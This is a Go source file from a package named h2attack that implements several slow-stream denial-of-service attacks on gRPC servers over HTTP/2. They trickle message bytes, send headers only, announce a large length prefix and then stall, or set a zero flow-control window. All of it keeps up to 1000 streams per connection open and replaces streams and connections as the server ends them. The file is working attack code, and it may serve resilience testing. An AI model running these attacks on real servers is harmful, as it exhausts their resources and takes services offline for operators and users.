package h2attack

import (
	"context"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
)

// Attacks that hold streams open: each sends less of a call than the
// server needs to answer it, slowly or never.

// TrickleOptions shape Trickle.
type TrickleOptions struct {
	Call Call
	// Conns is the connections (default 1).
	Conns int
	// Streams is the calls kept open per connection, as many as the
	// server allows at most (default 1000).
	Streams int
	// Chunk is the bytes of its message a call sends each Interval
	// (default 4; default Interval 4 s).
	Chunk    int
	Interval time.Duration
	// MessageSize is the message's length, its value padded to it
	// (default 4 KiB: it is not whole before the attack ends).
	MessageSize int
	// Timeout is the calls' grpc-timeout (default HugeTimeout).
	Timeout string
}

// Trickle opens calls that send their message a few bytes at a time, so
// that each looks alive to a server that only checks for idleness, with
// a grpc-timeout long enough that the call's deadline never ends it. A
// call the server ends is replaced at the next tick.
func Trickle(ctx context.Context, addr string, o TrickleOptions) Result {
	o.Conns = orDefault(o.Conns, 1)
	o.Streams = orDefault(o.Streams, 1000)
	o.Chunk = orDefault(o.Chunk, 4)
	o.Interval = orDefault(o.Interval, 4*time.Second)
	o.MessageSize = orDefault(o.MessageSize, 4<<10)
	if o.Timeout == "" {
		o.Timeout = HugeTimeout
	}
	rec := newRecorder()
	msg, err := o.Call.message(o.MessageSize)
	if err != nil {
		rec.fail(err)
		return rec.result()
	}
	hold(ctx, addr, rec, holdPlan{
		conns: o.Conns, streams: o.Streams, interval: o.Interval, timeout: o.Timeout,
		msg: msg, total: len(msg), first: o.Chunk, chunk: o.Chunk,
	})
	return rec.result()
}

// HeadersOnlyOptions shape HeadersOnly.
type HeadersOnlyOptions struct {
	// Conns is the connections (default 8).
	Conns int
	// Streams is the calls kept open per connection, as many as the
	// server allows at most (default 1000).
	Streams int
	// Interval is how often calls the server ended are replaced (default
	// 1 s).
	Interval time.Duration
	// Timeout is the calls' grpc-timeout; empty: none.
	Timeout string
}

// HeadersOnly opens calls that send their headers and never a byte of
// their message, and keeps them open.
func HeadersOnly(ctx context.Context, addr string, o HeadersOnlyOptions) Result {
	o.Conns = orDefault(o.Conns, 8)
	o.Streams = orDefault(o.Streams, 1000)
	o.Interval = orDefault(o.Interval, time.Second)
	rec := newRecorder()
	hold(ctx, addr, rec, holdPlan{
		conns: o.Conns, streams: o.Streams, interval: o.Interval, timeout: o.Timeout,
		total: -1,
	})
	return rec.result()
}

// LengthPrefixOptions shape LengthPrefix.
type LengthPrefixOptions struct {
	Call Call
	// Conns is the connections (default 1).
	Conns int
	// Streams is the calls kept open per connection, as many as the
	// server allows at most (default 1000).
	Streams int
	// Announced is the message length the gRPC prefix announces
	// (default 262,000 bytes, just within the service's default bound);
	// Sent is the bytes of the message sent, prefix included (default
	// 16).
	Announced, Sent int
	// Interval is how often calls the server ended are replaced (default
	// 1 s).
	Interval time.Duration
	// Timeout is the calls' grpc-timeout; empty: none.
	Timeout string
}

// LengthPrefix opens calls whose gRPC prefix announces a large message,
// sends a few bytes of it, then nothing: a server that sizes its buffer
// by the announcement holds the large size per call for the price of a
// few bytes.
func LengthPrefix(ctx context.Context, addr string, o LengthPrefixOptions) Result {
	o.Conns = orDefault(o.Conns, 1)
	o.Streams = orDefault(o.Streams, 1000)
	o.Announced = orDefault(o.Announced, 262000)
	o.Sent = max(orDefault(o.Sent, 16), 5)
	o.Interval = orDefault(o.Interval, time.Second)
	rec := newRecorder()
	msg := grpcFrame([]byte(strings.Repeat("\x0a", o.Sent-5)), o.Announced)
	hold(ctx, addr, rec, holdPlan{
		conns: o.Conns, streams: o.Streams, interval: o.Interval, timeout: o.Timeout,
		msg: msg, total: 5 + o.Announced, first: len(msg),
	})
	return rec.result()
}

// ZeroWindowOptions shape ZeroWindow.
type ZeroWindowOptions struct {
	Call Call
	// Conns is the connections (default 1).
	Conns int
	// Streams is the calls kept open per connection, as many as the
	// server allows at most (default 1000).
	Streams int
	// Interval is how often calls the server ended are replaced (default
	// 1 s).
	Interval time.Duration
}

// ZeroWindow sets its streams' initial window to zero, makes whole calls
// and never gives the server any window: no answer's message can be
// sent, and a server whose writers wait for window waits for ever.
func ZeroWindow(ctx context.Context, addr string, o ZeroWindowOptions) Result {
	o.Conns = orDefault(o.Conns, 1)
	o.Streams = orDefault(o.Streams, 1000)
	o.Interval = orDefault(o.Interval, time.Second)
	rec := newRecorder()
	msg, err := o.Call.message(0)
	if err != nil {
		rec.fail(err)
		return rec.result()
	}
	hold(ctx, addr, rec, holdPlan{
		conns: o.Conns, streams: o.Streams, interval: o.Interval,
		settings: []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}},
		mode:     readNoWindow,
		msg:      msg, total: len(msg), first: len(msg),
	})
	return rec.result()
}

// holdPlan is an attack of calls kept open: on each connection, up to
// streams calls (no more than the server allows) each sending its
// headers, the first bytes of msg, then chunk more bytes every
// interval; the call's END_STREAM goes with its byte total (never when
// that is more than msg holds, or negative). Calls the server ends are replaced,
// and a connection it closes is dialed again, at the next interval.
type holdPlan struct {
	conns, streams int
	interval       time.Duration
	timeout        string
	settings       []http2.Setting
	mode           readMode // readAll when zero
	msg            []byte
	total          int
	first, chunk   int
}

func hold(ctx context.Context, addr string, rec *recorder, p holdPlan) {
	if p.mode == readNone {
		p.mode = readAll
	}
	var wg sync.WaitGroup
	for range p.conns {
		wg.Go(func() {
			tick := time.NewTicker(p.interval)
			defer tick.Stop()
			for ctx.Err() == nil {
				c, err := dial(ctx, addr, rec, dialOptions{mode: p.mode, settings: p.settings})
				if err != nil {
					if ctx.Err() == nil {
						rec.fail(err)
					}
				} else {
					holdOn(ctx, c, p, tick)
					c.close()
				}
				select {
				case <-tick.C:
				case <-ctx.Done():
				}
			}
		})
	}
	wg.Wait()
}

// holdOn runs p on c until c or ctx ends.
func holdOn(ctx context.Context, c *conn, p holdPlan, tick *time.Ticker) {
	if !c.waitSettled(ctx) {
		return
	}
	sent := map[uint32]int{} // open calls: bytes of their message sent
	for {
		for _, id := range c.takeEnded() {
			delete(sent, id)
		}
		limit := min(p.streams, int(min(c.maxStreams.Load(), 1<<20)))
		err := c.send(func() error {
			for id, n := range sent {
				if p.chunk == 0 || n >= len(p.msg) {
					continue
				}
				m := min(n+p.chunk, len(p.msg))
				if err := c.fr.WriteData(id, m == p.total, p.msg[n:m]); err != nil {
					return err
				}
				sent[id] = m
			}
			for len(sent) < limit {
				n := min(p.first, len(p.msg))
				id, err := c.openStream(p.timeout, false)
				if err != nil {
					return err
				}
				if n > 0 {
					if err := c.fr.WriteData(id, n == p.total, p.msg[:n]); err != nil {
						return err
					}
				}
				sent[id] = n
			}
			return nil
		})
		if err != nil {
			return
		}
		select {
		case <-tick.C:
		case <-c.done:
			return
		case <-ctx.Done():
			return
		}
	}
}

// repeat runs attack on conns connections at once, each dialed again
// when it ends, until ctx ends; attack starts once the server's SETTINGS
// came. attack returns when its connection fails.
func repeat(ctx context.Context, addr string, rec *recorder, conns int, attack func(c *conn)) {
	redial(ctx, addr, rec, conns, dialOptions{mode: readAll}, func(c *conn) {
		if c.waitSettled(ctx) {
			attack(c)
		}
	})
}

// redial runs use on conns connections at once, each dialed with o, and
// dialed again when use returns, until ctx ends.
func redial(ctx context.Context, addr string, rec *recorder, conns int, o dialOptions, use func(c *conn)) {
	var wg sync.WaitGroup
	for range conns {
		wg.Go(func() {
			for ctx.Err() == nil {
				c, err := dial(ctx, addr, rec, o)
				if err != nil {
					if ctx.Err() == nil {
						rec.fail(err)
					}
					pause(ctx, 100*time.Millisecond)
					continue
				}
				use(c)
				c.close()
			}
		})
	}
	wg.Wait()
}

// oneShot dials a connection, sends what send writes once the server's
// SETTINGS came, and waits for the server to close it; then the next,
// one every interval at most, until ctx ends.
func oneShot(ctx context.Context, addr string, rec *recorder, interval time.Duration, send func(c *conn) error) {
	tick := time.NewTicker(interval)
	defer tick.Stop()
	for ctx.Err() == nil {
		c, err := dial(ctx, addr, rec, dialOptions{mode: readAll})
		if err != nil {
			if ctx.Err() == nil {
				rec.fail(err)
			}
		} else {
			if c.waitSettled(ctx) {
				_ = c.send(func() error { return send(c) }) // a failure ends c, which done reports
				select {
				case <-c.done:
				case <-ctx.Done():
				}
			}
			c.close()
		}
		select {
		case <-tick.C:
		case <-ctx.Done():
		}
	}
}

// pause waits d, or less if ctx ends.
func pause(ctx context.Context, d time.Duration) {
	t := time.NewTimer(d)
	defer t.Stop()
	select {
	case <-t.C:
	case <-ctx.Done():
	}
}

func orDefault[T int | time.Duration](v, def T) T {
	if v <= 0 {
		return def
	}
	return v
}
